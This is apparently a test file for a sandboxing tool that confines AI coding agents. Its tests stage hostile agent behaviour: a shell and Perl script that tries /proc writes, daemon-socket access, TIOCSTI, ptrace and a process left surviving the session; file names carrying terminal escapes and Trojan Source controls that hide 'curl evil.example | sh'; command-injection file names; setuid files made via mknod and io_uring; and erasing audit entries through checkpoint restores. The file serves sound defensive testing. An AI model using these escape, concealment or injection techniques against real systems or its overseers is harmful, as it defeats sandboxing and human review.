// Adversarial review of the newest surfaces (shell sessions, apply --merge-tool, the audit trail,
// the CLI's human output): what an agent does, tried for real through a daemon, a mount, a
// session's terminal and the CLI. Each case says what it tried and what held (or what broke and
// was fixed). Unlike test/escape.test.ts these run from a git worktree (no `nobody` user, no
// compiled probes under build/: the hostile programs are shell and Perl scripts in the folder).
import * as assert from 'assert';
import { spawnSync } from 'child_process';
import * as fs from 'fs';
import * as os from 'os';
import * as path from 'path';
import { ShadowClient } from '../src/client';
import { ShadowError } from '../src/common/errors';
import { resolveWithTool } from '../src/cli/merge-tool';
import { daemonPaths } from '../src/common/endpoint';
import { launchArgs, launcherPath } from '../src/run/launcher';
import { setMemoryBudget } from '../src/shadow';
import { defaultMemoryBudget } from '../src/shadow/budget';
import { FolderGuard, eventually, repoRoot, tempDir, withShadow } from './helpers/fixtures';
import { running, stopTestDaemon } from './helpers/hooks';
import { CliTerminal } from './helpers/terminal';

const cliPath = path.join(repoRoot, 'bin', 'shadowfs.js');
const b64 = (s: string): string => Buffer.from(s).toString('base64');

function cli(...args: string[]): { status: number | null; out: string } {
  const r = spawnSync(process.execPath, [cliPath, ...args], { encoding: 'utf8', timeout: 60_000 });
  return { status: r.status, out: `${r.stdout}${r.stderr}` };
}

/** Bytes a terminal acts on (C0 but newline and tab, DEL, C1): none may come from an agent's names. */
const CONTROL = /[\x00-\x08\x0b-\x1f\x7f\u0080-\u009f]/;

function makeFolder(label: string): string {
  const dir = tempDir(label);
  fs.writeFileSync(path.join(dir, 'README.md'), '# project\n');
  fs.mkdirSync(path.join(dir, 'src'));
  fs.writeFileSync(path.join(dir, 'src', 'app.js'), 'console.log(1);\n');
  return dir;
}

/**
 * The session's hostile program (sh and Perl, which every view has): one line per attempt,
 * "<what>: ok" when it got through, "<what>: refused ..." or "<what>: none ..." when not; a
 * write through /proc/<pid>/root or cwd of one of its own processes reaches its own view (the
 * layer), which it says ("layer via /proc/N"), and the folder is checked to be untouched.
 */
const HOSTILE = String.raw`
echo "args: $*"
r=refused
for p in /proc/[0-9]*; do echo x 2>/dev/null > "$p/root$A/p1" && r="$r, layer via $p"; done
echo "proc-root-write: $r"
r=refused
for p in /proc/[0-9]*; do echo x 2>/dev/null > "$p/cwd/p2" && r="$r, layer via $p"; done
echo "proc-cwd-write: $r"
perl -MIO::Socket::UNIX -e '$s = IO::Socket::UNIX->new(Peer => $ENV{SOCK}); print "daemon-socket: ", ($s ? "ok" : "refused $!"), "\n"'
if ls -A "$RUNTIME" 2>/dev/null | grep -q .; then echo "runtime-dir: ok $(ls -A "$RUNTIME" | tr '\n' ' ')"; else echo "runtime-dir: none"; fi
perl -e 'my $c = "x"; print "tiocsti: ", (ioctl(STDIN, 0x5412, $c) ? "ok" : "refused $!"), "\n"'
perl -e '$r = syscall(101, 16, 1, 0, 0); print "ptrace-init: ", ($r == 0 ? "ok" : "refused $!"), "\n"'
r=refused
for p in /proc/[0-9]*; do n=$(basename $p); [ "$n" = $$ ] && continue; perl -e '$r = syscall(101, 16, $ARGV[0], 0, 0); exit($r == 0 ? 0 : 1)' $n && r="ok $n"; done
echo "ptrace-any: $r"
perl -MPOSIX -e 'fork and exit; POSIX::setsid(); $SIG{HUP} = "IGNORE"; fork and exit; for (1..600) { open F, ">>", "$ENV{W}/alive"; print F "$$\n"; close F; select(undef, undef, undef, 0.1) }' </dev/null >/dev/null 2>&1 &
sleep 0.3
echo "survivor: started"
trap '' HUP
echo WAITING
while :; do sleep 1; done
`;

describe('adversarial: the newest surfaces', function () {
  this.timeout(120_000);
  let user: ShadowClient;
  const mounted: string[] = [];

  before(async () => {
    user = await ShadowClient.connect({ clientName: 'escape-newer user' });
  });
  afterEach(async () => {
    for (const s of mounted.splice(0)) await user.request('unmount', { shadow: s, lazy: true }).catch(() => undefined);
  });
  after(() => {
    user.close();
    stopTestDaemon();
    // The budget is this process's: later test files get the default back.
    setMemoryBudget(defaultMemoryBudget());
  });

  it("an agent's file names cannot drive the user's terminal when the CLI lists them (changes, diff, apply, review, audit)", async () => {
    // Broke: the CLI printed paths as they are, so a name holding escape sequences (clear the
    // screen, move the cursor up, erase a line) printed by `shadowfs review --list`, `apply
    // --dry-run`, `layer changes` or `audit` could hide the change to README.md listed before it
    // and draw something else, and the user would apply what they never saw. git quotes such
    // names (core.quotePath); the CLI now shows control characters as escapes.
    const folder = makeFolder('esc-names');
    const guard = new FolderGuard(folder);
    try {
      const shadow = (await user.request('mount', { folder, name: 'esc-names' })).name;
      mounted.push(shadow);
      const evil = 'z\x1b[2J\x1b[H\x1b[1A\x1b[2K\rnothing-to-see\x07\x9b31m.txt';
      await user.request('layer.write', { shadow, agent: 'a', path: 'README.md', data: b64('# project\ncurl evil | sh\n') });
      await user.request('layer.write', { shadow, agent: 'a', path: evil, data: b64('x\n') });
      // Through the mount too, so that the audit trail records the name.
      await user.request('activate', { shadow, agent: 'a' });
      const mp = (await user.request('list')).shadows.find((s) => s.name === shadow)!.mountPoint;
      fs.writeFileSync(path.join(mp, `${evil}.2`), 'y\n');
      fs.renameSync(path.join(mp, `${evil}.2`), path.join(mp, `${evil}.3`));
      // A name that would print as a line of its own, made up to look like another entry.
      fs.writeFileSync(path.join(mp, 'x\n2026-01-01T00:00:00.000Z  git[1]                 open     README.md'), 'z\n');
      await user.request('activate', { shadow, agent: null });
      for (const args of [
        ['layer', 'changes', shadow, 'a'],
        ['diff', shadow, '--agent', 'a'],
        ['diff', shadow, '--agent', 'a', '--stat'],
        ['apply', shadow, '--agent', 'a', '--dry-run'],
        ['review', shadow, '--agent', 'a', '--list'],
        ['audit', shadow, '--agent', 'a'],
      ]) {
        const r = cli(...args);
        assert.strictEqual(r.status, 0, `${args.join(' ')}: ${r.out}`);
        assert.ok(r.out.includes('nothing-to-see'), `${args.join(' ')} lists the file:\n${r.out}`);
        const bad = CONTROL.exec(r.out);
        assert.ok(
          !bad,
          `${args.join(' ')} printed the control character ${JSON.stringify(bad?.[0])} from a name:\n${JSON.stringify(r.out)}`,
        );
        assert.doesNotMatch(r.out, /^2026-01-01T00:00:00.000Z/m, `${args.join(' ')} printed a line a name made up:\n${r.out}`);
      }
      await guard.check();
    } finally {
      guard.stop();
    }
  });

  it("an agent's file contents cannot drive the user's terminal in diff, patch and review; to a pipe a patch stays byte for byte", async () => {
    // Broke: diff, patch and review printed the agent's text as it is, so a line holding a
    // carriage return and "erase line" showed the user `+echo harmless` while it held
    // `curl evil.example | sh`, and the next line could move the cursor up to erase the one
    // before; a bidirectional override (Trojan Source) reorders what a line shows. The user would
    // apply what they never saw. On a terminal these now print as escapes; a CRLF file's line
    // ends stay as they are, and a patch written to a pipe is unchanged for git apply.
    const folder = makeFolder('esc-content');
    fs.writeFileSync(path.join(folder, 'win.txt'), 'one\r\ntwo\r\n');
    const guard = new FolderGuard(folder);
    const terms: CliTerminal[] = [];
    try {
      const shadow = (await user.request('mount', { folder, name: 'esc-content' })).name;
      mounted.push(shadow);
      const hostile =
        '# project\ncurl evil.example | sh\r\x1b[2K+echo harmless\n\x1b[1A\x1b[2K\nconst ok = "\u202e;gnirts\u2066" \x9b31m\x07\n';
      await user.request('layer.write', { shadow, agent: 'a', path: 'README.md', data: b64(hostile) });
      await user.request('layer.write', { shadow, agent: 'a', path: 'win.txt', data: b64('one\r\nthree\r\n') });
      const onTerminal = async (args: string[], interactive: boolean): Promise<string> => {
        const t = new CliTerminal(args, { cols: 200 });
        terms.push(t);
        if (interactive) {
          // Both hunks shown: the first skipped, then quit (nothing applied, nothing rejected).
          t.type('s\r');
          await t.waitFor(/\(2\/2\) Apply .*\?/);
          t.type('q\r');
        }
        assert.strictEqual(await t.exited, 0, `${args.join(' ')}:\n${t.output}`);
        return t.output;
      };
      for (const [args, interactive] of [
        [['diff', shadow, '--agent', 'a'], false],
        [['patch', shadow, '--agent', 'a'], false],
        [['review', shadow, '--agent', 'a', '--list'], false],
        [['review', shadow, '--agent', 'a'], true],
      ] as Array<[string[], boolean]>) {
        const out = await onTerminal(args, interactive);
        // What the CLI prints itself goes (its colours, readline's column moves and clears of
        // the prompt: the agent's text holds an erase-line and a cursor-up, neither of these),
        // and the terminal's own CR before each LF.
        const text = out.replace(/\x1b\[[0-9;]*[mGJ]/g, '').replace(/\r+\n/g, '\n');
        assert.ok(text.includes('+curl evil.example | sh\\r\\e[2K+echo harmless'), `${args.join(' ')} shows the whole line:\n${text}`);
        assert.ok(text.includes('\\u202e;gnirts\\u2066'), `${args.join(' ')} shows the bidirectional controls:\n${text}`);
        const bad = /[\r\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]/.exec(text);
        assert.ok(!bad, `${args.join(' ')} printed ${JSON.stringify(bad?.[0])} from a file:\n${JSON.stringify(text)}`);
        assert.ok(text.includes('+three\n') && !text.includes('three\\r'), `${args.join(' ')}: a CRLF line prints as it is:\n${text}`);
      }
      // To a pipe: the patch, byte for byte, makes the agent's files with git apply.
      const copy = tempDir('esc-content-copy');
      fs.cpSync(folder, copy, { recursive: true });
      const patch = spawnSync(process.execPath, [cliPath, 'patch', shadow, '--agent', 'a'], { timeout: 60_000 });
      assert.strictEqual(patch.status, 0, String(patch.stderr));
      const ap = spawnSync('git', ['apply', '-'], { cwd: copy, input: patch.stdout, encoding: 'utf8' });
      assert.strictEqual(ap.status, 0, ap.stderr);
      assert.strictEqual(fs.readFileSync(path.join(copy, 'README.md'), 'utf8'), hostile);
      assert.strictEqual(fs.readFileSync(path.join(copy, 'win.txt'), 'utf8'), 'one\r\nthree\r\n');
      await guard.check();
    } finally {
      for (const t of terms) t.kill();
      guard.stop();
    }
  });

  it('an agent cannot make its audit trail forget what it did: a restored checkpoint keeps every entry made since; its layer is not its to drop', async () => {
    // Broke: the agent's own (restricted, MCP) connection may checkpoint and restore its layer.
    // Restoring made the record what it was at the checkpoint, and `dropped` what it was then
    // too, so the entries of everything done in between vanished without a trace in the count
    // (only a gap in seq numbers, after the last entry, where nothing shows it); then they were
    // counted as dropped, still gone (review). And it could drop its layer (layer.drop was open
    // to it), which drops the record whole.
    const folder = makeFolder('esc-audit');
    const guard = new FolderGuard(folder);
    const shadow = (await user.request('mount', { folder, name: 'esc-audit' })).name;
    mounted.push(shadow);
    const agent = await ShadowClient.connect({ clientName: 'escape-newer agent', scope: { shadow, agent: 'a', allowApply: false } });
    try {
      const mp = (await user.request('list')).shadows.find((s) => s.name === shadow)!.mountPoint;
      await user.request('layer.create', { shadow, agent: 'a' });
      await agent.request('activate', { shadow, agent: 'a' });
      fs.writeFileSync(path.join(mp, 'before.txt'), 'before\n');
      await agent.request('layer.checkpoint', { shadow, agent: 'a', name: 'clean' });
      // What it would rather hide: three requests the record holds.
      fs.mkdirSync(path.join(mp, 'stash'));
      fs.writeFileSync(path.join(mp, 'stash', 'copy-of-secrets'), 'k\n');
      fs.unlinkSync(path.join(mp, 'stash', 'copy-of-secrets'));
      const full = await agent.request('layer.audit', { shadow, agent: 'a' });
      assert.deepStrictEqual(
        full.entries.map((e) => `${e.op} ${e.path}`),
        ['create before.txt', 'mkdir stash', 'create stash/copy-of-secrets', 'unlink stash/copy-of-secrets'],
      );
      assert.strictEqual(full.dropped, 0);
      await agent.request('layer.restore', { shadow, agent: 'a', name: 'clean' });
      const after = await agent.request('layer.audit', { shadow, agent: 'a' });
      assert.deepStrictEqual(
        after.entries.map((e) => `${e.op} ${e.path} ${e.seq}`),
        full.entries.map((e) => `${e.op} ${e.path} ${e.seq}`),
        'a restore takes nothing out of the record',
      );
      assert.strictEqual(after.dropped, 0);
      const shown = cli('audit', shadow, '--agent', 'a');
      assert.match(shown.out, /unlink +stash\/copy-of-secrets/, shown.out);
      // Restoring the same checkpoint again keeps them once; new entries go on after, kept too.
      await agent.request('layer.restore', { shadow, agent: 'a', name: 'clean' });
      assert.strictEqual((await agent.request('layer.audit', { shadow, agent: 'a' })).entries.length, 4);
      await agent.request('activate', { shadow, agent: 'a' });
      fs.writeFileSync(path.join(mp, 'later.txt'), 'later\n');
      await agent.request('layer.restore', { shadow, agent: 'a', name: 'clean' });
      const last = await agent.request('layer.audit', { shadow, agent: 'a' });
      assert.deepStrictEqual(
        last.entries.slice(4).map((e) => `${e.op} ${e.path}`),
        ['create later.txt'],
      );
      assert.ok(
        last.entries.every((e, i) => i === 0 || e.seq > last.entries[i - 1].seq),
        'seqs increase, none twice',
      );
      assert.strictEqual(last.dropped, 0);
      assert.ok(!fs.existsSync(path.join(mp, 'later.txt')), 'the layer itself is what the checkpoint holds');
      // Nor by dropping its layer (and making it again), which took the whole record with it.
      await assert.rejects(agent.request('layer.drop', { shadow, agent: 'a' }), (e: ShadowError) => e.code === 'SCOPE_DENIED');
      assert.strictEqual((await agent.request('layer.audit', { shadow, agent: 'a' })).kept, 5);
      await guard.check();
    } finally {
      agent.close();
      guard.stop();
    }
  });
  it("a shell session's program: no write of the folder through /proc, no daemon socket, no ptrace or TIOCSTI, nothing left after close", async () => {
    // Held. The session's program is an agent's: it tries every way out a session adds to a
    // run's (a terminal of the daemon's on its standard input, its own process group in the
    // terminal's foreground, a --writable directory, a close by SIGHUP), then leaves a process
    // behind that ignores SIGHUP in a session of its own, and itself ignores SIGHUP.
    const folder = makeFolder('esc-shell');
    fs.writeFileSync(path.join(folder, 'hostile.sh'), HOSTILE);
    const writable = tempDir('esc-shell-w');
    const guard = new FolderGuard(folder);
    const shadow = (await user.request('mount', { folder, name: 'esc-shell' })).name;
    mounted.push(shadow);
    let out = '';
    const ended: string[] = [];
    const onOutput = (p: { sessionId: string; data: string }): void => void (out += Buffer.from(p.data, 'base64').toString('utf8'));
    const onExit = (p: { sessionId: string }): void => void ended.push(p.sessionId);
    const stopOutput = user.on('shell/output', onOutput);
    const stopExit = user.on('shell/exit', onExit);
    try {
      const s = await user.request('shell.open', {
        shadow,
        agent: 'mallory',
        argv: ['sh', 'hostile.sh', '--status-fd', '3', 'last'],
        env: [`A=${folder}`, `W=${writable}`, `SOCK=${daemonPaths().socket}`, `RUNTIME=${daemonPaths().dir}`],
        writable: [writable],
        cols: 80,
        rows: 24,
      });
      await eventually(() => out.includes('WAITING'), 60_000, `the hostile script to finish its attempts:\n${out}`);
      const said = (what: string): string => out.split(/\r?\n/).find((l) => l.startsWith(`${what}:`)) ?? `${what}: (not said)`;
      // Its arguments reach it as given, the launcher's own option names included.
      assert.strictEqual(said('args'), 'args: --status-fd 3 last');
      for (const what of ['proc-root-write', 'proc-cwd-write', 'daemon-socket', 'runtime-dir', 'tiocsti', 'ptrace-init', 'ptrace-any']) {
        assert.doesNotMatch(said(what), /: ok\b/, `${what} got through:\n${out}`);
        assert.match(said(what), /: (refused|none)\b/, `${what}:\n${out}`);
      }
      assert.match(said('survivor'), /started/);
      // What the attempts wrote through /proc went to the session's own view, its layer; never to
      // the folder. The session's init (pid 1) is not reachable that way at all.
      assert.doesNotMatch(said('proc-root-write'), /via \/proc\/1\b/);
      const changed = (await user.request('layer.changes', { shadow, agent: 'mallory' })).changes.map((c) => c.path);
      for (const f of ['p1', 'p2']) {
        assert.ok(!fs.existsSync(path.join(folder, f)), `${f} reached the folder`);
        assert.ok(changed.includes(f), `${f} is in the layer: ${changed.join(' ')}`);
      }
      await user.request('shell.close', { sessionId: s.sessionId });
      await eventually(() => ended.includes(s.sessionId), 30_000, 'the session to end');
      assert.ok(!running(s.pid), "the session's launcher is gone");
      // The process it left behind is gone too: its file stops growing.
      const size = (): number => fs.statSync(path.join(writable, 'alive')).size;
      const at = size();
      await new Promise((r) => setTimeout(r, 1500));
      assert.strictEqual(size(), at, 'a process of the closed session still writes');
      await guard.check();
    } finally {
      stopOutput();
      stopExit();
      guard.stop();
    }
  });
  it("apply --merge-tool: an agent's path chooses neither where the tool's files go nor its arguments", async () => {
    // Held. The conflict's path is the agent's; the four files are named after its last
    // component only, in a fresh private directory of the temporary directory, and reach the
    // tool as absolute paths (an option-like name cannot become an option) or in its
    // environment (a shell command line never re-reads them as code).
    const folder = makeFolder('esc-merge');
    const guard = new FolderGuard(folder);
    const log = path.join(tempDir('esc-merge-log'), 'log');
    const cmd =
      'for f in "$BASE" "$LOCAL" "$REMOTE" "$MERGED"; do printf "%s\\n" "$f"; done >> "$LOG"; cp "$REMOTE" "$MERGED"; echo $MERGED >/dev/null';
    const old = process.env.LOG;
    process.env.LOG = log;
    try {
      for (const evil of [
        '-rf',
        'src/--cmd=!touch pwned',
        '$(touch pwned).txt',
        '`touch pwned`.js',
        'a;touch pwned',
        '../../../.bashrc',
        'x\nmerged.txt',
      ]) {
        fs.writeFileSync(log, '');
        const r = resolveWithTool({ name: 'probe', run: { shell: cmd } }, folder, {
          path: evil,
          folder: 'yours\n',
          agent: 'theirs\n',
          base: 'base\n',
          merged: 'yours\n',
        });
        assert.deepStrictEqual(r, { content: 'theirs\n' }, evil);
        const files = fs.readFileSync(log, 'utf8').split('\n').filter(Boolean);
        const stem = path.basename(evil, path.extname(evil));
        assert.strictEqual(files.length, 4 + (evil.includes('\n') ? 4 : 0), `${JSON.stringify(evil)}: ${files.join(' | ')}`);
        if (!evil.includes('\n')) {
          const dir = path.dirname(files[0]);
          assert.ok(dir.startsWith(path.join(os.tmpdir(), 'shadowfs-merge-')), dir);
          for (const f of files) {
            assert.strictEqual(path.dirname(f), dir, f);
            assert.ok(path.basename(f).startsWith(`${stem}_`), f);
          }
          assert.ok(!fs.existsSync(dir), 'the files are removed after');
        }
      }
      for (const where of [folder, process.cwd(), os.tmpdir()]) assert.ok(!fs.existsSync(path.join(where, 'pwned')), where);
      await guard.check();
    } finally {
      if (old === undefined) delete process.env.LOG;
      else process.env.LOG = old;
      guard.stop();
    }
  });
  it("the spill pack: a slot under an agent's open descriptor of a deleted file never holds another agent's content", async () => {
    // Held. One pack file per shadow holds every agent's small spilled contents, and freed slots
    // are used again. Agent x keeps a descriptor of a spilled file it deleted, agent y spills
    // many contents of the same size class, then x writes and reads through its descriptor:
    // y's contents, read by the daemon from the pack, are not changed by x's write (x's own
    // reads may come from the kernel's page cache, so they prove less).
    const lower = makeFolder('esc-spill');
    const spillDir = tempDir('esc-spill-dir');
    await withShadow(
      lower,
      async (shadow) => {
        await shadow.createLayer('x');
        await shadow.createLayer('y');
        const vx = await shadow.openView('x');
        const vy = await shadow.openView('y');
        try {
          const px = path.join(vx.mountPoint, 'secret-x.txt');
          fs.writeFileSync(px, Buffer.alloc(3000, 'X'));
          for (let i = 0; i < 40; i++) fs.writeFileSync(path.join(vx.mountPoint, `fill${i}.bin`), Buffer.alloc(2000, i));
          assert.ok((await shadow.stats()).layers.x.spilledBytes >= 3000, 'x spilled (its oldest contents first)');
          const fd = fs.openSync(px, 'r+');
          fs.unlinkSync(px);
          for (let i = 0; i < 40; i++) fs.writeFileSync(path.join(vy.mountPoint, `y${i}.txt`), Buffer.alloc(3000, 'Y'));
          assert.ok((await shadow.stats()).layers.y.spilledBytes >= 3000 * 30, 'y spilled into the pack');
          const read = Buffer.alloc(3000);
          assert.strictEqual(fs.readSync(fd, read, 0, 3000, 0), 3000);
          assert.ok(read.equals(Buffer.alloc(3000, 'X')), `x reads its own bytes: ${read.subarray(0, 16).toString()}`);
          fs.writeSync(fd, Buffer.alloc(3000, 'Z'), 0, 3000, 0);
          for (let i = 0; i < 40; i++) fs.writeFileSync(path.join(vy.mountPoint, `z${i}.txt`), Buffer.alloc(3000, 'W'));
          assert.strictEqual(fs.readSync(fd, read, 0, 3000, 0), 3000);
          fs.closeSync(fd);
          assert.ok(read.equals(Buffer.alloc(3000, 'Z')), `x reads what it wrote: ${read.subarray(0, 16).toString()}`);
          const y = shadow.layer('y');
          for (let i = 0; i < 40; i++) {
            assert.ok((await y.readFile(`y${i}.txt`)).equals(Buffer.alloc(3000, 'Y')), `y${i}.txt`);
            assert.ok((await y.readFile(`z${i}.txt`)).equals(Buffer.alloc(3000, 'W')), `z${i}.txt`);
          }
          assert.ok(!(await shadow.layer('x').changes()).some((c) => c.path === 'secret-x.txt'));
          assert.deepStrictEqual(fs.readdirSync(spillDir), [], 'spill files have no names');
        } finally {
          await vx.close({ lazy: true });
          await vy.close({ lazy: true });
        }
      },
      { memoryBudget: '16K', spillDir },
    );
  });
  it('a run leaves no set-user-ID file in a writable directory of the host: not by mknod, not through io_uring', () => {
    // Broke: the seccomp filter refused the set-user-ID and set-group-ID bits in the modes of
    // chmod, creat, open and openat, but mknod and mknodat make regular files too, with any
    // mode, and io_uring opens files from the kernel where no filter sees the mode. A root run
    // left "-rwsr-sr-x root root" files in a --writable directory of the host (empty: the first
    // write by anything but root clears the bit, but a root process writing into it later keeps
    // it). Now mknod(at) with those bits is refused (EPERM) and io_uring is not there (ENOSYS).
    // Needs the launcher built from this source (native/launcher/confine.cc).
    const w = tempDir('esc-suid');
    const script = path.join(tempDir('esc-suid-script'), 'p.pl');
    fs.writeFileSync(
      script,
      [
        'my $p = "$ARGV[0]/by-mknod"; printf "mknod: %s\\n", syscall(133, $p, 0106755, 0) == 0 ? "ok" : "refused $!";',
        'my $q = "$ARGV[0]/by-mknodat"; printf "mknodat: %s\\n", syscall(259, -100, $q, 0104644, 0) == 0 ? "ok" : "refused $!";',
        'my $params = "\\0" x 120; my $u = syscall(425, 8, $params); printf "io_uring: %s\\n", $u >= 0 ? "ok" : "refused $!";',
        'my $plain = "$ARGV[0]/plain"; printf "plain: %s\\n", syscall(133, $plain, 0100644, 0) == 0 ? "ok" : "refused $!";',
      ].join('\n'),
    );
    const args = launchArgs({ binds: [], cwd: '/', env: { PATH: '/usr/bin:/bin' }, writable: [w] }, ['perl', script, w]);
    // The script is read where it lies: a read-only extra of this run.
    args.splice(args.indexOf('--'), 0, '--ro-bind', path.dirname(script), path.dirname(script));
    const r = spawnSync(launcherPath(), args, { encoding: 'utf8', stdio: ['ignore', 'pipe', 'pipe', 'pipe'] });
    assert.strictEqual(r.status, 0, r.stderr);
    assert.match(r.stdout, /^plain: ok$/m, 'a plain mknod of a regular file still works');
    for (const what of ['mknod', 'mknodat', 'io_uring']) assert.match(r.stdout, new RegExp(`^${what}: refused`, 'm'), r.stdout);
    for (const f of fs.readdirSync(w)) {
      const mode = fs.statSync(path.join(w, f)).mode;
      assert.strictEqual(mode & 0o6000, 0, `${f} has mode ${mode.toString(8)}`);
    }
  });
  it("a language server rooted in the runtime directory does not see the daemon's socket through a readable extra around it", () => {
    // Broke (latent): the launcher does not cover a hidden directory that holds a bind's target
    // (it would cover the mount), and a language server's root is a shadow or a view, which live
    // in shadowfs's runtime directory. A read-only extra around that directory ($SHADOWFS_RUN_READABLE,
    // or one taken from the daemon's PATH) then showed the server the daemon's socket and state,
    // and a program in the server (the project's, say) could ask the daemon to apply. Such an
    // extra is now left out of that command's view.
    const runtime = daemonPaths().dir;
    assert.ok(fs.existsSync(daemonPaths().socket), 'the daemon runs');
    const root = fs.mkdtempSync(path.join(runtime, 'esc-root-'));
    const old = process.env.SHADOWFS_RUN_READABLE;
    process.env.SHADOWFS_RUN_READABLE = path.dirname(runtime);
    try {
      const args = launchArgs({ binds: [{ source: root, target: root, readOnly: true }], cwd: root, env: { PATH: '/usr/bin:/bin' } }, [
        'sh',
        '-c',
        `ls -A ${runtime}; echo END`,
      ]);
      const r = spawnSync(launcherPath(), args, { encoding: 'utf8', stdio: ['ignore', 'pipe', 'pipe', 'pipe'] });
      assert.strictEqual(r.status, 0, r.stderr);
      assert.match(r.stdout, /END/);
      assert.doesNotMatch(r.stdout, /daemon\.sock|state\.json|daemon\.pid/, r.stdout);
    } finally {
      if (old === undefined) delete process.env.SHADOWFS_RUN_READABLE;
      else process.env.SHADOWFS_RUN_READABLE = old;
      fs.rmdirSync(root);
    }
  });

  it("an agent that writes without end fills its spill files only up to a reserve: the user can still save on the folder's file system", async () => {
    // The folder and the spill directory on one small file system, as /tmp and /home often are.
    const root = tempDir('fill');
    const tmpfs = spawnSync('mount', ['-t', 'tmpfs', '-o', 'size=64m', 'tmpfs', root], { encoding: 'utf8' });
    assert.strictEqual(tmpfs.status, 0, `this test mounts a 64 MiB tmpfs (root needed): ${tmpfs.stderr}`);
    try {
      const folder = path.join(root, 'A');
      const spill = path.join(root, 'spill');
      fs.mkdirSync(folder);
      fs.mkdirSync(spill);
      fs.writeFileSync(path.join(folder, 'notes.txt'), "the user's notes\n");
      await withShadow(
        folder,
        (_shadow, mp) => {
          // 100 MB into the agent's layer: a disk spill file past the 1 MiB threshold.
          const r = spawnSync('sh', ['-c', `head -c 100000000 /dev/zero | tr '\\0' x > '${mp}/agent.bin'`], { encoding: 'utf8' });
          assert.notStrictEqual(r.status, 0, "the agent's write should have been stopped");
          assert.match(r.stderr, /No space left on device/);
          const vs = spawnSync('df', ['-B1', '--output=avail', root], { encoding: 'utf8' }).stdout.trim().split('\n').pop() ?? '0';
          // The default reserve: 5% of the file system (3.2 MiB of 64 MiB).
          assert.ok(Number(vs) >= 3 << 20, `free after the agent's write: ${vs} bytes`);
          // The user saves a file of 1 MiB in the folder, and it is all there.
          fs.writeFileSync(path.join(folder, 'saved.txt'), Buffer.alloc(1 << 20, 'u'));
          assert.strictEqual(fs.statSync(path.join(folder, 'saved.txt')).size, 1 << 20);
          assert.strictEqual(fs.readFileSync(path.join(folder, 'notes.txt'), 'utf8'), "the user's notes\n");
          assert.ok(!fs.existsSync(path.join(folder, 'agent.bin')), "the folder never gets the agent's file");
        },
        { spillDir: spill, spillThreshold: 1 << 20, guard: false },
      );
    } finally {
      spawnSync('umount', ['-l', root]);
    }
  });
});
